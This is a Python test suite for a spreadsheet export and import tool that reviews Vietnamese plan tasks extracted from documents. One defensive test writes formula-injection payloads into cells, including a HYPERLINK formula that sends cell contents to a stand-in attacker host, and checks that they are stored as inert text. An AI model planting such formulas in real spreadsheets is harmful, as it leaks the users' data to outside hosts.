"""Spreadsheet round trip: export, edit cells with openpyxl, import, re-extract."""

from __future__ import annotations

import hashlib
import zipfile

import pytest
from openpyxl import load_workbook

from plantasks.review.cli import main as review_main
from plantasks.review.normalize import plan_context, resolve_one
from plantasks.review.store import CorrectionStore, default_store_path
from plantasks.review.xlsx import (
    AREA_LABELS, CONFLICT_FILL, FLAG_FILL, INDEX, KIND_LABELS, META, SHEET, WorkbookError, export_workbook,
    import_workbook,
)
from plantasks.review.fields import labels
from plantasks.schemas import DocumentMeta, DocumentResult, Task

from review_support import extract, sample_run


@pytest.fixture
def run(tmp_path):
    return sample_run(tmp_path)


def exported_sheet(out, tmp_path, source):
    """`plantasks export` of the folder, opened for editing: (file, workbook, task sheet, row of each stt)."""
    xlsx = tmp_path / "review.xlsx"
    export_workbook(out, xlsx)
    wb = load_workbook(xlsx)
    ws = wb[SHEET]
    return xlsx, wb, ws, rows_by_stt(ws, source.name)


def rows_by_stt(ws, doc_label: str) -> dict[str, int]:
    out = {}
    for r in range(2, ws.max_row + 1):
        if ws.cell(r, INDEX["doc"]).value == doc_label:
            out[str(ws.cell(r, INDEX["stt"]).value)] = r
    return out


def test_export_layout_hidden_id_frozen_header_dropdowns_and_highlights(run, tmp_path):
    _, out, first = run
    sha = hashlib.sha256(b"flagged").hexdigest()
    flagged = DocumentResult(
        document=DocumentMeta(id=sha[:16], source_file="flagged.txt", sha256=sha),
        tasks=[Task(id="f1", table="PHỤ LỤC", stt="1", content="Nhiệm vụ có cờ.", flags=["deadline_unparsed"])])
    (out / "flagged.txt.json").write_text(flagged.model_dump_json(), encoding="utf-8")
    xlsx = tmp_path / "review.xlsx"
    assert export_workbook(out, xlsx) == len(first.tasks) + 1
    wb = load_workbook(xlsx)
    ws = wb[SHEET]
    assert wb.sheetnames[0] == SHEET and all(wb[n].sheet_state == "hidden" for n in wb.sheetnames[1:])
    assert ws.column_dimensions["A"].hidden and ws.freeze_panes == "A2"
    assert ws.cell(1, INDEX["content"]).value == "Nội dung" and ws.cell(1, 1).font.bold
    validated = {str(dv.sqref).split(":")[0]: dv.formula1 for dv in ws.data_validations.dataValidation}
    area_col = ws.cell(2, INDEX["area"]).column_letter
    kind_col = ws.cell(2, INDEX["deadline_kind"]).column_letter
    assert "_lists!$A$1:$A$8" in validated[f"{area_col}2"] and "_lists!$B$1:$B$11" in validated[f"{kind_col}2"]
    assert [wb["_lists"].cell(i, 1).value for i in range(1, 9)] == list(AREA_LABELS.values())
    [row] = [r for r in range(2, ws.max_row + 1) if ws.cell(r, 1).value == "f1"]
    assert ws.cell(row, INDEX["deadline"]).fill.fgColor.rgb.endswith(FLAG_FILL.fgColor.rgb[-6:])
    assert ws.cell(row, INDEX["flags"]).value == labels()["flags"]["deadline_unparsed"]
    assert ws.cell(row, INDEX["content"]).fill.fgColor.rgb != FLAG_FILL.fgColor.rgb


def test_round_trip_three_cells_become_corrections_that_re_extract_applies(run, tmp_path):
    source, out, first = run
    by_stt = {t.stt: t for t in first.tasks}
    xlsx = tmp_path / "review.xlsx"
    assert review_main(["export", str(out), "--xlsx", str(xlsx)]) == 0
    wb = load_workbook(xlsx)
    ws = wb[SHEET]
    rows = rows_by_stt(ws, f"{source.name}")
    ws.cell(rows["4"], INDEX["lead"]).value = "Sở Tư pháp"
    ws.cell(rows["1"], INDEX["deadline"]).value = "Tháng 9/2025"
    ws.cell(rows["3"], INDEX["area"]).value = AREA_LABELS["organization"]
    wb.save(xlsx)

    assert review_main(["import", str(xlsx), "--out", str(out), "--who", "Trần Văn Bình"]) == 0
    stored = CorrectionStore(default_store_path(out)).all()
    assert sorted((c.task_id, c.field) for c in stored) == sorted(
        [(by_stt["4"].id, "lead"), (by_stt["1"].id, "deadline"), (by_stt["3"].id, "area")])
    assert {c.who for c in stored} == {"Trần Văn Bình"}

    second = {t.stt: t for t in extract(source, out).tasks}
    expected_lead = resolve_one("Sở Tư pháp", "lead", plan_context(first.document.model_dump(mode="json")))["name"]
    assert [a.name for a in second["4"].lead] == [expected_lead] and second["4"].corrected == ["lead"]
    assert second["4"].lead[0].text == by_stt["4"].lead[0].text, "the printed form is kept for alias learning"
    assert second["1"].deadline.raw == "Tháng 9/2025" and second["1"].corrected == ["deadline"]
    assert second["3"].area == "organization" and second["3"].corrected == ["area"]
    assert all(not t.corrected for s, t in second.items() if s not in ("1", "3", "4"))

    # importing the same file again stores nothing new (the cells equal the corrected values now)
    xlsx2 = tmp_path / "again.xlsx"
    export_workbook(out, xlsx2)
    assert import_workbook(xlsx2, out).saved == 0


def test_rows_added_deleted_accepted_and_deadline_kind(run, tmp_path):
    source, out, first = run
    by_stt = {t.stt: t for t in first.tasks}
    xlsx, wb, ws, rows = exported_sheet(out, tmp_path, source)
    ws.insert_rows(rows["3"])  # a missed task between 2 and 3
    new = rows["3"]
    ws.cell(new, INDEX["stt"]).value = "2a"
    ws.cell(new, INDEX["content"]).value = "Rà soát quy trình nội bộ."
    ws.cell(new, INDEX["lead"]).value = "Sở Nội vụ"
    rows = rows_by_stt(ws, source.name)
    ws.cell(rows["6"], INDEX["delete"]).value = "x"
    ws.cell(rows["5"], INDEX["accepted"]).value = "x"
    ws.cell(rows["2"], INDEX["deadline_kind"]).value = KIND_LABELS["event"]
    ws.cell(rows["2"], INDEX["note"]).value = "theo sự kiện"
    wb.save(xlsx)

    report = import_workbook(xlsx, out, who="an")
    assert report.problems == [] and report.saved == 4
    second = extract(source, out)
    stts = [t.stt for t in second.tasks]
    assert stts[:4] == ["1", "2", "2a", "3"] and "6" not in stts
    added = second.tasks[2]
    assert added.content == "Rà soát quy trình nội bộ." and added.corrected == ["added"]
    assert "accepted" in {t.stt: t for t in second.tasks}["5"].corrected
    t2 = second.tasks[1]
    assert [i.kind for i in t2.deadline.items] == ["event"] * max(1, len(by_stt["2"].deadline.items))
    assert all(i.due is None for i in t2.deadline.items) and t2.deadline.raw == by_stt["2"].deadline.raw
    notes = {c.field: c.note for c in CorrectionStore(default_store_path(out)).all()}
    assert notes["deadline"] == "theo sự kiện"


def test_rows_that_cannot_be_matched_are_reported(run, tmp_path):
    source, out, first = run
    xlsx, wb, ws, rows = exported_sheet(out, tmp_path, source)
    ws.cell(rows["1"], INDEX["id"]).value = "not-an-id"
    ws.cell(rows["2"], INDEX["area"]).value = "Thời tiết"
    ws.cell(rows["3"], INDEX["stt"]).value = "3b"
    ws.delete_rows(rows["5"])
    wb.save(xlsx)
    report = import_workbook(xlsx, out)
    text = "\n".join(report.problems)
    assert f"row {rows['1']}: task id 'not-an-id'" in text
    assert f"row {rows['2']}: area 'Thời tiết'" in text
    assert "was removed from the sheet" in text and {t.stt: t for t in first.tasks}["5"].id in text
    assert report.saved == 1  # the good row (stt 3 -> 3b) is still stored
    assert review_main(["import", str(xlsx), "--out", str(out)]) == 1


def test_a_foreign_workbook_is_refused(tmp_path):
    from openpyxl import Workbook

    path = tmp_path / "other.xlsx"
    Workbook().save(path)
    with pytest.raises(WorkbookError, match="not written by `plantasks export`"):
        import_workbook(path)
    (tmp_path / "junk.xlsx").write_text("junk")
    with pytest.raises(WorkbookError):
        import_workbook(tmp_path / "junk.xlsx")


def test_conflicting_cells_are_marked(run, tmp_path):
    source, out, first = run
    t4 = {t.stt: t for t in first.tasks}["4"]
    from plantasks.review.edits import TaskEdit, corrections_for

    CorrectionStore(default_store_path(out)).save(corrections_for(first, "a", [TaskEdit(t4.id, {"lead": ["Sở Tư pháp"]})]).corrections)
    source.write_text(source.read_text(encoding="utf-8").replace("\tSở Nội vụ.\n\tHội đồng", "\tSở Tài chính.\n\tHội đồng"),
                      encoding="utf-8")
    extract(source, out)
    xlsx = tmp_path / "review.xlsx"
    export_workbook(out, xlsx)
    ws = load_workbook(xlsx)[SHEET]
    row = rows_by_stt(ws, source.name)["4"]
    assert ws.cell(row, INDEX["lead"]).fill.fgColor.rgb.endswith(CONFLICT_FILL.fgColor.rgb[-6:])
    assert labels()["flags"]["correction_conflict"] in ws.cell(row, INDEX["flags"]).value


def test_labels_cover_every_code_and_are_unique():
    import typing

    from plantasks.review.fields import ALL_FIELDS
    from plantasks.schemas.output import Area, DeadlineKind, Recurrence

    data = labels()
    assert list(data["recurrences"]) == list(typing.get_args(Recurrence))
    assert list(data["areas"]) == list(typing.get_args(Area))
    assert list(data["deadline_kinds"]) == list(typing.get_args(DeadlineKind))
    assert set(data["fields"]) == set(ALL_FIELDS)
    for table in data.values():
        assert len(set(table.values())) == len(table), "two codes share a label"


def test_formula_like_text_is_written_as_text_on_export_and_after_import(run, tmp_path):
    source, out, first = run
    xlsx, wb, ws, rows = exported_sheet(out, tmp_path, source)
    hostile = {"1": '=HYPERLINK("http://evil.example/?"&A2,"bấm")', "2": "+1+1", "3": "@SUM(1,2)", "5": "-2+3"}
    for stt, text in hostile.items():
        ws.cell(rows[stt], INDEX["content"]).value = text  # what an analyst (or a hostile source) typed
    wb.save(xlsx)
    assert import_workbook(xlsx, out).saved == 4
    again = tmp_path / "again.xlsx"
    export_workbook(out, again)
    with zipfile.ZipFile(again) as z:
        sheets = [z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in xml or "<f " in xml for xml in sheets), "no cell is a formula"
    ws = load_workbook(again)[SHEET]
    rows = rows_by_stt(ws, source.name)
    for stt, text in hostile.items():
        cell = ws.cell(rows[stt], INDEX["content"])
        assert (cell.value, cell.data_type) == (text, "s")


def test_the_sheet_shows_dates_source_flags_in_vietnamese_and_readable_rows(run, tmp_path):
    source, out, first = run
    xlsx = tmp_path / "review.xlsx"
    export_workbook(out, xlsx)
    ws = load_workbook(xlsx)[SHEET]
    rows = rows_by_stt(ws, source.name)
    by_stt = {t.stt: t for t in first.tasks}
    row = rows["1"]  # Quý II/2025
    assert (ws.cell(row, INDEX["start"]).value, ws.cell(row, INDEX["due"]).value) == ("01/04/2025", "30/06/2025")
    src = by_stt["1"].source
    assert ws.cell(row, INDEX["source"]).value == f"tr. {src.page}, dòng {src.line_start}–{src.line_end}"
    flagged = rows["4"]  # "Hội đồng thi tuyển" is not in the registry
    assert ws.cell(flagged, INDEX["flags"]).value == labels()["flags"]["agency_unknown"]
    assert all(ws.row_dimensions[r].height >= 15 for r in rows.values())
    assert ws.row_dimensions[rows["1"]].height > 15  # a long content wraps over several lines


def test_importing_the_same_sheet_twice_changes_nothing_the_second_time(run, tmp_path):
    source, out, first = run
    xlsx, wb, ws, rows = exported_sheet(out, tmp_path, source)
    ws.insert_rows(rows["3"])
    ws.cell(rows["3"], INDEX["content"]).value = "Rà soát quy trình nội bộ."
    ws.cell(rows["1"], INDEX["deadline"]).value = "Tháng 9/2025"
    wb.save(xlsx)
    assert import_workbook(xlsx, out).saved == 2
    store = CorrectionStore(default_store_path(out))
    before = [c.to_json() for c in store.all()]
    assert import_workbook(xlsx, out).saved == 0
    assert [c.to_json() for c in store.all()] == before
    tasks = extract(source, out).tasks
    assert [t.content for t in tasks].count("Rà soát quy trình nội bộ.") == 1


def test_import_writes_where_it_is_told_never_where_the_sheet_says(run, tmp_path):
    source, out, first = run
    xlsx = tmp_path / "review.xlsx"
    export_workbook(out, xlsx)
    wb = load_workbook(xlsx)
    elsewhere = tmp_path / "elsewhere"
    wb[META]["B3"] = str(elsewhere)  # a planted _meta.out_dir
    ws = wb[SHEET]
    ws.cell(rows_by_stt(ws, source.name)["1"], INDEX["stt"]).value = "1a"
    wb.save(xlsx)
    with pytest.raises(WorkbookError, match="--out DIR"):
        import_workbook(xlsx)
    assert review_main(["import", str(xlsx)]) == 2
    assert import_workbook(xlsx, out).saved == 1
    assert not elsewhere.exists() and (out / "corrections.sqlite").exists()
